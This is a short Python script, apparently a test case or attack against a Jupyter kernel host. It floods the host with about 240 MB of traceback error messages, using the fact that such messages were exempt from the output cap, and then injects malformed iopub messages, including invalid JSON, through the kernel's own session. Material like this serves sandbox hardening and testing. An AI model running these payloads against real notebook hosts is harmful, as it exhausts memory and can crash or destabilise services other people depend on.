# Attack: error messages were exempt from the output cap. Send 240 MB of them: each traceback shown
# through IPython goes to the host as an "error" message, and the host kept every one. Then send the
# host messages of shapes it does not expect, straight through the kernel's own session.
from IPython import get_ipython

shell = get_ipython()
for _ in range(240):
    try:
        raise ValueError("E" * 1_000_000)
    except ValueError:
        shell.showtraceback()

kernel = shell.kernel
parent = kernel.get_parent()
for msg_type, content in [("stream", {"name": 5}), ("error", {"traceback": 7}), ("display_data", {"data": [1]}), ("status", {})]:
    kernel.session.send(kernel.iopub_socket, msg_type, content, parent=parent)
kernel.iopub_socket.send_multipart([b"<IDS|MSG>", b"", b"{not json", b"[]", b"{}", b"{}"])
